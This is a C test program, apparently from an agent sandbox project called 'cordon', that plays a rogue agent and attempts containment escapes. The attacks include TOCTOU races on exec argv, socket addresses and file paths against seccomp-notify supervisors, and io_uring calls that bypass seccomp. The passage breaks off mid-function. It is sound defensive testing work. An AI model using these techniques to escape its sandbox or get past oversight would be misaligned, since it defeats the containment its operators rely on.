// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * A rogue agent, one attack per invocation: `attack NAME [ARGS...]`.
 * Run inside `cordon run` by the host and VM tests (and the red-team
 * harness).  Prints one line, "contained: ERRNO-NAME (what)" or
 * "BREACH: what", and exits 0 when contained, 1 on a breach, 2 on misuse.
 * "contained: - (what)" is a refusal no errno carries (a proxy's status, an
 * approval socket's answer, a search that found nothing).
 * It only tries; it never decides what should happen (the tests do).  Run
 * outside any sandbox (the harness's negative control), most attacks must
 * print BREACH: each one really performs what it names, with raw syscalls,
 * and reports a breach only when it got through.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stddef.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <poll.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/ptrace.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <grp.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U        /* Linux 6.3; the 6.1 headers lack it */
#endif

static int verdict(int rc, int err, const char *what)
{
	if (rc < 0) {
		printf("contained: %s (%s)\n", strerrorname_np(err) ?: "?", what);
		return 0;
	}
	printf("BREACH: %s\n", what);
	return 1;
}

/* "contained: - (...)": stopped, but no errno says so. */
static int held(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int held(const char *fmt, ...)
{
	va_list ap;

	printf("contained: - (");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf(")\n");
	return 0;
}

static int breach(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int breach(const char *fmt, ...)
{
	va_list ap;

	printf("BREACH: ");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	return 1;
}

static int inet_addr_of(const char *host, int port, struct sockaddr_storage *ss, socklen_t *len)
{
	struct sockaddr_in *in = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, host, &in->sin_addr) == 1) {
		in->sin_family = AF_INET;
		in->sin_port = htons((uint16_t)port);
		*len = sizeof(*in);
		return AF_INET;
	}
	if (inet_pton(AF_INET6, host, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((uint16_t)port);
		*len = sizeof(*in6);
		return AF_INET6;
	}
	return -1;
}

static socklen_t unix_addr(const char *name, bool abstract, struct sockaddr_un *a)
{
	size_t n = strlen(name);

	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (n > sizeof(a->sun_path) - 2)
		n = sizeof(a->sun_path) - 2;
	memcpy(a->sun_path + (abstract ? 1 : 0), name, n);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (abstract ? 1 : 1));
}


/*
 * The host side of the tests (run outside any session): listeners the agent
 * must not reach, each recording a hit in DIR/NAME.hit, their addresses in
 * DIR/ports as "TCP4PORT TCP6PORT UDPPORT ABSTRACTNAME"; the pathname ones
 * are DIR/host.sock (stream) and DIR/host.dgram (datagram).
 */
static void hit(const char *dir, const char *name)
{
	char p[4096];
	int fd;

	snprintf(p, sizeof(p), "%s/%s.hit", dir, name);
	if (access(p, F_OK) == 0)
		return;         /* one mark is enough; stay fast for the benchmarks */
	fd = open(p, O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd >= 0) {
		(void)!write(fd, "x\n", 2);
		close(fd);
	}
}

static int bound(int fam, int type, const void *addr, socklen_t len)
{
	int fd = socket(fam, type | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0)
		return -1;
	if (fam == AF_INET6)
		(void)setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof(one));
	if (bind(fd, addr, len) < 0 || (type == SOCK_STREAM && listen(fd, 512) < 0)) {
		close(fd);
		return -1;
	}
	return fd;
}

static int port_of(int fd)
{
	struct sockaddr_storage ss;
	socklen_t l = sizeof(ss);

	if (getsockname(fd, (struct sockaddr *)&ss, &l) < 0)
		return -1;
	return ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
					     : ((struct sockaddr_in6 *)&ss)->sin6_port);
}

/*
 * echo-serve PORTFILE: a host-side upstream on 127.0.0.1 for the proxy
 * attacks.  What a proxy relays to it comes back: a TLS record is echoed
 * (so a client whose ClientHello was relayed sees it return), an HTTP
 * request gets "200 OK".  Either way the bytes are appended to
 * PORTFILE.log, so the harness can see that something got through.
 */
static int echo_serve(const char *portfile)
{
	struct sockaddr_in a4 = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT };
	struct pollfd p[2] = { { .fd = bound(AF_INET, SOCK_STREAM, &a4, sizeof(a4)), .events = POLLIN },
			       { .fd = -1, .events = POLLIN } };
	char tmp[4096], log[4096];
	FILE *f;

	if (p[0].fd < 0)
		return 2;
	/* The same port on ::1 too, where there is one: "localhost" may resolve to either. */
	a6.sin6_port = htons((uint16_t)port_of(p[0].fd));
	p[1].fd = bound(AF_INET6, SOCK_STREAM, &a6, sizeof(a6));
	snprintf(tmp, sizeof(tmp), "%s.tmp", portfile);
	snprintf(log, sizeof(log), "%s.log", portfile);
	f = fopen(tmp, "w");
	if (!f)
		return 2;
	fprintf(f, "%d\n", port_of(p[0].fd));
	fclose(f);
	if (rename(tmp, portfile) < 0)
		return 2;
	for (;;) {
		char buf[4096];
		int c;
		ssize_t n;

		if (poll(p, 2, -1) <= 0)
			continue;
		c = accept(p[(p[0].revents & POLLIN) ? 0 : 1].fd, NULL, NULL);
		if (c < 0)
			continue;
		n = recv(c, buf, sizeof(buf), 0);
		if (n > 0) {
			f = fopen(log, "a");
			if (f) {
				fprintf(f, "%zd bytes, first 0x%02x\n", n, (unsigned char)buf[0]);
				fclose(f);
			}
			if (buf[0] == 0x16)
				(void)!send(c, buf, (size_t)n, MSG_NOSIGNAL);
			else
				(void)!send(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", 38, MSG_NOSIGNAL);
		}
		close(c);
	}
}

static int serve(const char *dir)
{
	struct sockaddr_in a4 = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT };
	struct sockaddr_un ab, pa, da;
	char name[64], path[4096], dpath[4096], tmp[4096];
	const char *names[] = { "tcp4", "tcp6", "udp", "abstract", "path", "dgram" };
	struct pollfd p[6];
	FILE *f;

	snprintf(name, sizeof(name), "cordon-test-abstract-%d", (int)getpid());
	snprintf(path, sizeof(path), "%s/host.sock", dir);
	p[0].fd = bound(AF_INET, SOCK_STREAM, &a4, sizeof(a4));
	p[1].fd = bound(AF_INET6, SOCK_STREAM, &a6, sizeof(a6));
	p[2].fd = bound(AF_INET, SOCK_DGRAM, &a4, sizeof(a4));
	p[3].fd = bound(AF_UNIX, SOCK_STREAM, &ab, unix_addr(name, true, &ab));
	p[4].fd = bound(AF_UNIX, SOCK_STREAM, &pa, unix_addr(path, false, &pa));
	snprintf(dpath, sizeof(dpath), "%s/host.dgram", dir);
	p[5].fd = bound(AF_UNIX, SOCK_DGRAM, &da, unix_addr(dpath, false, &da));
	if (p[0].fd < 0 || p[2].fd < 0 || p[3].fd < 0 || p[4].fd < 0 || p[5].fd < 0 ||
	    chmod(path, 0777) < 0 || chmod(dpath, 0777) < 0) {
		perror("attack serve");
		return 2;
	}
	snprintf(tmp, sizeof(tmp), "%s/ports.tmp", dir);
	f = fopen(tmp, "w");
	if (!f)
		return 2;
	fprintf(f, "%d %d %d %s\n", port_of(p[0].fd), p[1].fd < 0 ? 0 : port_of(p[1].fd),
		port_of(p[2].fd), name);
	fclose(f);
	snprintf(path, sizeof(path), "%s/ports", dir);
	if (rename(tmp, path) < 0)
		return 2;
	for (int i = 0; i < 6; i++)
		p[i].events = POLLIN;
	for (;;) {
		if (poll(p, 6, -1) < 0)
			continue;
		for (int i = 0; i < 6; i++) {
			char buf[64];

			if (!(p[i].revents & POLLIN))
				continue;
			if (i == 2 || i == 5) {
				(void)!recv(p[i].fd, buf, sizeof(buf), 0);
			} else {
				int c = accept(p[i].fd, NULL, NULL);

				if (c >= 0)
					close(c);
			}
			hit(dir, names[i]);
		}
	}
}

/*
 * The seccomp-notify argument races.  A second thread rewrites what the
 * first one passes to the kernel, as fast as it can, while the first one
 * makes the call: argv between "status" and "push" (exec of a git), the
 * sockaddr between an allowed and a forbidden port (connect).
 */
#include <pthread.h>
static struct sockaddr_in race_sa;
static volatile int race_stop;
static uint16_t race_ports[2];

static void *flip_port(void *unused)
{
	(void)unused;
	while (!race_stop) {
		/* Each value held about as long as the other: both get read. */
		race_sa.sin_port = htons(race_ports[1]);
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
		race_sa.sin_port = htons(race_ports[0]);
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
	}
	return NULL;
}

/*
 * Unix sockets by path: what the fallback's supervisor judges, and what the
 * network floor's unix gate keeps from the session.
 *
 * unix-dgram PATH: a datagram sent with PATH as its destination (sendto,
 * no connect): no seccomp filter sees that address.
 */
static int unix_dgram(const char *path)
{
	struct sockaddr_un un;
	socklen_t l = unix_addr(path, false, &un);
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	int r = (int)sendto(fd, "x", 1, 0, (struct sockaddr *)&un, l);

	return verdict(r, errno, "datagram sent to a pathname socket");
}

/*
 * unix-race PATH N abstract|unspec: N connects of a fresh Unix socket whose
 * address a second thread flips between PATH and, as the supervisor may
 * read it, an abstract name this process listens on itself (abstract) or
 * AF_UNSPEC (unspec): both are let through to the kernel when read.  A
 * breach is a connect that reached PATH.
 */
static struct sockaddr_un race_un, race_alt;
static int race_listener = -1;

static void *flip_unix(void *unused)
{
	(void)unused;
	while (!race_stop) {
		memcpy(&race_un, &race_alt, sizeof(race_un));
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
		race_un.sun_family = AF_UNIX;
		memset(race_un.sun_path, 0, sizeof(race_un.sun_path));
		memcpy(race_un.sun_path, race_alt.sun_path + sizeof(race_un.sun_path) / 2,
		       sizeof(race_un.sun_path) / 2);
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
	}
	return NULL;
}

static void *accept_all(void *unused)
{
	(void)unused;
	for (;;) {
		int c = accept(race_listener, NULL, NULL);

		if (c >= 0)
			close(c);
	}
	return NULL;
}

static int unix_race(const char *path, int n, const char *how)
{
	bool abstract = !strcmp(how, "abstract");
	int reached = 0, other = 0, refused = 0, eperm = 0, eacces = 0, einval = 0;
	struct sockaddr_un self = { .sun_family = AF_UNIX };
	pthread_t flipper, acceptor;

	if (strlen(path) >= sizeof(race_un.sun_path) / 2 || (!abstract && strcmp(how, "unspec")))
		return 2;
	/*
	 * race_alt: the harmless address, with PATH kept in its upper half
	 * (the flipper copies it down).  The length passed is always the whole
	 * sockaddr_un: a path ends at its NUL, an abstract name is all of it.
	 */
	memset(&race_alt, 0, sizeof(race_alt));
	if (abstract) {
		race_alt.sun_family = AF_UNIX;
		snprintf(race_alt.sun_path + 1, sizeof(race_un.sun_path) / 2 - 1,
			 "cordon-race-%d", (int)getpid());
		memcpy(race_alt.sun_path + sizeof(race_un.sun_path) / 2, path, strlen(path));
		memcpy(&self, &race_alt, sizeof(self));
		race_listener = socket(AF_UNIX, SOCK_STREAM, 0);
		if (bind(race_listener, (struct sockaddr *)&self, sizeof(self)) < 0 ||
		    listen(race_listener, 64) < 0 ||
		    pthread_create(&acceptor, NULL, accept_all, NULL) != 0) {
			printf("error: own abstract listener: %s\n", strerror(errno));
			return 2;
		}
	} else {
		race_alt.sun_family = AF_UNSPEC;
		memcpy(race_alt.sun_path + sizeof(race_un.sun_path) / 2, path, strlen(path));
	}
	memcpy(&race_un, &race_alt, sizeof(race_un));
	if (pthread_create(&flipper, NULL, flip_unix, NULL) != 0)
		return 2;
	for (int i = 0; i < n; i++) {
		struct sockaddr_un peer;
		socklen_t pl = sizeof(peer);
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			return 2;
		if (connect(fd, (struct sockaddr *)&race_un, sizeof(race_un)) < 0) {
			refused++;
			eperm += errno == EPERM;
			eacces += errno == EACCES;
			einval += errno == EINVAL;
		} else if (getpeername(fd, (struct sockaddr *)&peer, &pl) == 0 &&
			   pl > offsetof(struct sockaddr_un, sun_path) && peer.sun_path[0]) {
			reached++;
		} else {
			other++;
		}
		close(fd);
	}
	race_stop = 1;
	pthread_join(flipper, NULL);
	if (reached)
		return breach("%d of %d connects reached %s (%d to the harmless address, %d refused)",
			      reached, n, path, other, refused);
	/* EACCES: the supervisor read the path; EPERM: the kernel refused it. */
	return held("%d connects: %d to the harmless address, %d refused (EACCES %d, EPERM %d, "
		    "EINVAL %d), none reached %s", n, other, refused, eacces, eperm, einval, path);
}

/*
 * peer-serve PATH (outside a session): a stream listener at PATH (mode 0777)
 * answering every connection with what SO_PEERCRED says of the peer, and
 * what /proc says of its pid (real uid, cgroup v2 path).
 * unix-peer PATH (inside): connect and print that answer.
 */
static int peer_serve(const char *path)
{
	struct sockaddr_un un;
	socklen_t l = unix_addr(path, false, &un);
	int fd = bound(AF_UNIX, SOCK_STREAM, &un, l);

	if (fd < 0 || chmod(path, 0777) < 0) {
		perror("attack peer-serve");
		return 2;
	}
	for (;;) {
		struct ucred uc;
		socklen_t ul = sizeof(uc);
		int c = accept(fd, NULL, NULL);

		if (c < 0)
			continue;
		if (getsockopt(c, SOL_SOCKET, SO_PEERCRED, &uc, &ul) == 0) {
			/* What a server that looks its peer up by pid finds (polkit, logind). */
			char f[64], line[512], cg[400] = "?";
			long puid = -1;
			FILE *fp;

			snprintf(f, sizeof(f), "/proc/%d/status", (int)uc.pid);
			if ((fp = fopen(f, "r"))) {
				while (fgets(line, sizeof(line), fp))
					if (sscanf(line, "Uid: %ld", &puid) == 1)
						break;
				fclose(fp);
			}
			snprintf(f, sizeof(f), "/proc/%d/cgroup", (int)uc.pid);
			if ((fp = fopen(f, "r"))) {
				while (fgets(line, sizeof(line), fp))
					if (!strncmp(line, "0::", 3) && sscanf(line + 3, "%399s", cg) == 1)
						break;
				fclose(fp);
			}
			dprintf(c, "uid %u gid %u pid %d proc-uid %ld cgroup %s\n", uc.uid, uc.gid,
				(int)uc.pid, puid, cg);
		}
		close(c);
	}
}

static int unix_peer(const char *path)
{
	struct sockaddr_un un;
	socklen_t l = unix_addr(path, false, &un);
	char buf[128] = "";
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	ssize_t n;

	if (connect(fd, (struct sockaddr *)&un, l) < 0) {
		printf("refused: %s\n", strerrorname_np(errno) ?: "?");
		return 1;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("peer: %s", n > 0 ? buf : "(nothing)\n");
	printf("self: uid %u gid %u pid %d\n", getuid(), getgid(), (int)getpid());
	return 0;
}

/*
 * unix-own DIR: the session's own Unix IPC, which no gate may break: an
 * abstract listener and a pathname listener (stream and datagram) in DIR,
 * each reached by a connect; and a datagram sent with a destination to the
 * session's own socket.  One line each: "NAME ok" or "NAME ERRNO".
 */
static void own_line(const char *name, int r, int err)
{
	printf("%s %s\n", name, r < 0 ? (strerrorname_np(err) ?: "?") : "ok");
}

static int unix_own(const char *dir)
{
	struct sockaddr_un ab, st, dg;
	char p1[4096], p2[4096], name[64], buf[8];
	socklen_t la, ls, ld;
	int l1, l2, l3, c, r;

	snprintf(name, sizeof(name), "cordon-own-%d", (int)getpid());
	snprintf(p1, sizeof(p1), "%s/own.sock", dir);
	snprintf(p2, sizeof(p2), "%s/own.dgram", dir);
	la = unix_addr(name, true, &ab);
	ls = unix_addr(p1, false, &st);
	ld = unix_addr(p2, false, &dg);
	l1 = bound(AF_UNIX, SOCK_STREAM, &ab, la);
	l2 = bound(AF_UNIX, SOCK_STREAM, &st, ls);
	l3 = bound(AF_UNIX, SOCK_DGRAM, &dg, ld);
	if (l1 < 0 || l2 < 0 || l3 < 0) {
		printf("error: own listeners: %s\n", strerror(errno));
		return 2;
	}
	c = socket(AF_UNIX, SOCK_STREAM, 0);
	r = connect(c, (struct sockaddr *)&ab, la);
	own_line("abstract-connect", r, errno);
	close(c);
	c = socket(AF_UNIX, SOCK_STREAM, 0);
	r = connect(c, (struct sockaddr *)&st, ls);
	own_line("path-connect", r, errno);
	close(c);
	c = socket(AF_UNIX, SOCK_DGRAM, 0);
	r = connect(c, (struct sockaddr *)&dg, ld);
	if (r == 0)
		r = (int)send(c, "a", 1, 0);
	if (r >= 0)
		r = (int)recv(l3, buf, sizeof(buf), MSG_DONTWAIT);
	own_line("dgram-connect-send", r, errno);
	close(c);
	c = socket(AF_UNIX, SOCK_DGRAM, 0);
	r = (int)sendto(c, "b", 1, 0, (struct sockaddr *)&dg, ld);
	if (r >= 0)
		r = (int)recv(l3, buf, sizeof(buf), MSG_DONTWAIT);
	own_line("dgram-sendto", r, errno);
	close(c);
	unlink(p1);
	unlink(p2);
	return 0;
}

/*
 * argv-race GIT N thread|shared: N execs of GIT (a script that prints
 * "ran ARG1", or this program installed as "git"), each from a fresh child, with argv[1] flipping between
 * "status" and "push" while the exec is judged and performed: by a second
 * thread of the child (thread), or by another process through a MAP_SHARED
 * page holding the string (shared: the caller alone in its address space).
 * A breach is a push that ran; the tally says how each exec ended.
 */
static void flip_forever(char *arg)
{
	for (;;) {
		memcpy(arg, "push\0\0", 6);
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
		memcpy(arg, "status", 6);
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
	}
}

static int flip_started;

static void *flip_thread(void *arg)
{
	__atomic_fetch_add(&flip_started, 1, __ATOMIC_SEQ_CST);
	flip_forever(arg);
	return NULL;
}

static int argv_race(const char *git, int n, const char *mode)
{
	bool shared = !strcmp(mode, "shared");
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			  (shared ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS, -1, 0);
	int ran_push = 0, ran_status = 0, killed = 0, refused = 0;
	pid_t flipper = -1;

	if (page == MAP_FAILED)
		return verdict(-1, errno, "mmap");
	memcpy(page, "status", 7);
	if (shared) {
		flipper = fork();
		if (flipper == 0)
			flip_forever(page);
	}
	for (int i = 0; i < n; i++) {
		char *av[] = { (char *)"git", page, (char *)"origin", (char *)"main", NULL };
		char out[64] = "";
		int p[2], st = 0;
		pid_t c;

		if (pipe(p) < 0)
			break;
		c = fork();
		if (c == 0) {
			pthread_t t;

			dup2(p[1], 1);
			close(p[0]);
			close(p[1]);
			/* Two rewriters: the one the exec's wake-up preempts is not the only one. */
			for (int k = 0; !shared && k < 2; k++)
				if (pthread_create(&t, NULL, flip_thread, page) == 0)
					while (__atomic_load_n(&flip_started, __ATOMIC_SEQ_CST) <= k)
						;       /* the rewriting runs before the exec */
			execv(git, av);
			_exit(126);
		}
		close(p[1]);
		for (size_t o = 0; o < sizeof(out) - 1;) {
			ssize_t r = read(p[0], out + o, sizeof(out) - 1 - o);

			if (r <= 0)
				break;
			o += (size_t)r;
		}
		close(p[0]);
		waitpid(c, &st, 0);
		if (!strcmp(out, "ran push\n"))
			ran_push++;
		else if (!strcmp(out, "ran status\n"))
			ran_status++;
		else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
			killed++;
		else
			refused++;      /* refused, or a torn string ran */
	}
	if (flipper > 0) {
		kill(flipper, SIGKILL);
		waitpid(flipper, NULL, 0);
	}
	if (ran_push)
		return breach("%d of %d execs ran the push (%d status, %d killed at exec, %d other)",
			      ran_push, n, ran_status, killed, refused);
	return held("%d of %d execs ran the status, %d killed at exec, %d other, none the push",
		    ran_status, n, killed, refused);
}

/*
 * exec-forms DIR: not an attack: each way a real program execs, from a
 * fresh child, must run as asked under the exec recheck (its path as the
 * kernel forms it, argv as copied, interpreters).  DIR: a directory the
 * agent may write and run in.  Prints "forms: N of M ran" and the ones
 * that did not.
 */
static char *const *form_argv;
static void *form_thread(void *unused)
{
	(void)unused;
	execv("/bin/echo", form_argv);
	_exit(126);
}

static int exec_forms(const char *dir)
{
	static const char *names[] = { "execve", "fexecve", "execveat-dirfd", "thread",
				       "long-argv", "script-with-arg", "script-empty-argv",
				       "symlink", "proc-self-exe" };
	char script[512], script2[512], link[512];
	int ran = 0, n = (int)(sizeof(names) / sizeof(names[0]));
	FILE *f;

	snprintf(script, sizeof(script), "%s/form-script", dir);
	snprintf(script2, sizeof(script2), "%s/form-script2", dir);
	snprintf(link, sizeof(link), "%s/form-link", dir);
	f = fopen(script, "w");
	if (f) {
		fputs("#!/bin/sh -e\necho f5 \"$1\"\n", f);
		fclose(f);
	}
	f = fopen(script2, "w");
	if (f) {
		fputs("#!/bin/sh\necho f6\n", f);
		fclose(f);
	}
	chmod(script, 0755);
	chmod(script2, 0755);
	unlink(link);
	if (symlink("/bin/echo", link) < 0)
		return verdict(-1, errno, "symlink");
	for (int i = 0; i < n; i++) {
		static char big[4000][12];
		static char *bigv[4002];
		char *av[] = { (char *)"echo", (char *)"f0", NULL }, out[128] = "", want[32];
		int p[2], st = 0;
		size_t o = 0;
		pid_t c;

		snprintf(want, sizeof(want), "f%d", i);
		if (i == 8)     /* git's own command: an unknown one may be an alias, lifted as a push */
			snprintf(want, sizeof(want), "log");
		if (pipe(p) < 0)
			break;
		c = fork();
		if (c == 0) {
			char *sv[] = { script, (char *)"arg", NULL }, *empty[] = { NULL };
			pthread_t t;
			int fd;

			dup2(p[1], 1);
			close(p[0]);
			close(p[1]);
			av[1] = want;
			switch (i) {
			case 0:
				execv("/bin/echo", av);
				break;
			case 1:
				fd = open("/bin/echo", O_RDONLY | O_CLOEXEC);
				fexecve(fd, av, environ);
				break;
			case 2:
				fd = open("/bin", O_DIRECTORY | O_RDONLY);
				syscall(SYS_execveat, fd, "echo", av, environ, 0);
				break;
			case 3:
				form_argv = av;
				pthread_create(&t, NULL, form_thread, NULL);
				pthread_join(t, NULL);
				break;
			case 4:
				bigv[0] = (char *)"echo";
				bigv[1] = want;
				for (int k = 0; k < 4000; k++) {
					snprintf(big[k], sizeof(big[k]), "x%09d", k);
					bigv[k + 2] = big[k];
				}
				execv("/bin/echo", bigv);
				break;
			case 5:
				execv(script, sv);
				break;
			case 6:
				syscall(SYS_execve, script2, empty, environ);
				break;
			case 7:
				execv(link, av);
				break;
			case 8:         /* itself, as "git log": it prints "ran log" */
				av[0] = (char *)"git";
				execv("/proc/self/exe", av);
				break;
			}
			_exit(126);
		}
		close(p[1]);
		for (;;) {
			char buf[4096];
			ssize_t r = read(p[0], buf, sizeof(buf));
			size_t k = r > 0 ? (size_t)r : 0;

			if (r <= 0)
				break;
			if (k > sizeof(out) - 1 - o)
				k = sizeof(out) - 1 - o;
			memcpy(out + o, buf, k);        /* the start is kept, the rest drained */
			o += k;
		}
		close(p[0]);
		waitpid(c, &st, 0);
		if (i == 8 && !strncmp(out, "ran ", 4))
			memmove(out, out + 4, strlen(out + 4) + 1);
		if (WIFEXITED(st) && !WEXITSTATUS(st) && !strncmp(out, want, strlen(want)) &&
		    (i != 5 || !strncmp(out, "f5 arg\n", 7)) &&
		    (i != 4 || !strncmp(out, "f4 x000000000 ", 14)))
			ran++;
		else
			printf("not run: %s (status %d, said '%.40s')\n", names[i], st, out);
	}
	printf("forms: %d of %d ran\n", ran, n);
	return ran == n ? 0 : 1;
}

/* open-race A B N: N opens of A while a thread flips the path to B; prints what was read. */
static char race_path[512];
static char race_paths[2][512];

static void *flip_path(void *unused)
{
	(void)unused;
	while (!race_stop) {
		memcpy(race_path, race_paths[1], sizeof(race_path));
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
		memcpy(race_path, race_paths[0], sizeof(race_path));
		__asm__ volatile("" ::: "memory");     /* every store happens */
		for (volatile int k = 0; k < 500; k++)
			;
	}
	return NULL;
}

static int open_race(const char *pa, const char *pb, int n)
{
	int got_a = 0, got_b = 0, failed = 0;
	pthread_t t;

	snprintf(race_paths[0], sizeof(race_paths[0]), "%s", pa);
	snprintf(race_paths[1], sizeof(race_paths[1]), "%s", pb);
	memcpy(race_path, race_paths[0], sizeof(race_path));
	pthread_create(&t, NULL, flip_path, NULL);
	for (int i = 0; i < n; i++) {
		char buf[64] = "";
		int fd = open(race_path, O_RDONLY);

		if (fd < 0) {
			failed++;
			continue;
		}
		if (read(fd, buf, sizeof(buf) - 1) > 0 && strstr(buf, "OTHER"))
			got_b++;
		else
			got_a++;
		close(fd);
	}
	race_stop = 1;
	pthread_join(t, NULL);
	if (got_b) {
		printf("BREACH: %d of %d opens read the other file\n", got_b, n);
		return 1;
	}
	printf("contained: %d opens of the approved file, %d refused, none of the other\n", got_a, failed);
	return 0;
}

/* connect-race ALLOWED FORBIDDEN N: N connects; a breach is a connect to FORBIDDEN. */
static int connect_race(int allowed, int forbidden, int n)
{
	pthread_t t;
	int reached_forbidden = 0, ok = 0;

	race_ports[0] = (uint16_t)allowed;
	race_ports[1] = (uint16_t)forbidden;
	race_sa.sin_family = AF_INET;
	race_sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	race_sa.sin_port = htons(race_ports[0]);
	pthread_create(&t, NULL, flip_port, NULL);
	for (int i = 0; i < n; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in peer;
		socklen_t l = sizeof(peer);

		if (fd < 0)
			continue;
		if (connect(fd, (struct sockaddr *)&race_sa, sizeof(race_sa)) == 0) {
			ok++;
			if (getpeername(fd, (struct sockaddr *)&peer, &l) == 0 &&
			    ntohs(peer.sin_port) == forbidden)
				reached_forbidden++;
		}
		close(fd);
	}
	race_stop = 1;
	pthread_join(t, NULL);
	if (reached_forbidden) {
		printf("BREACH: %d of %d connects reached the forbidden port\n", reached_forbidden, n);
		return 1;
	}
	printf("contained: %d connects to the allowed port, %d refused, none to the forbidden one\n",
	       ok, n - ok);
	return 0;
}

/*
 * io_uring: the same open, read and connect as their syscalls, but carried
 * out by the kernel from a ring, where a seccomp filter on openat/connect
 * never sees them.  Only the LSM hooks (the floor) can stop these.
 */
struct uring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int uring_open(struct uring *u)
{
	struct io_uring_params p;
	size_t sq_len, cq_len;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	u->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (u->fd < 0)
		return -errno;
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd,
		  IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd,
			  IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -errno;
	}
	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQES);
	if (u->sqes == MAP_FAILED)
		return -errno;
	u->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	u->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	u->sq_array = (unsigned *)(sq + p.sq_off.array);
	u->cq_head = (unsigned *)(cq + p.cq_off.head);
	u->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	u->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits one SQE and waits for its completion: the CQE's res (a negative errno on failure). */
static int uring_run(struct uring *u, const struct io_uring_sqe *sqe)
{
	unsigned tail = *u->sq_tail, i = tail & *u->sq_mask, head;
	int res;

	u->sqes[i] = *sqe;
	u->sq_array[i] = i;
	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = *u->cq_head;
	while (head == __atomic_load_n(u->cq_tail, __ATOMIC_ACQUIRE))
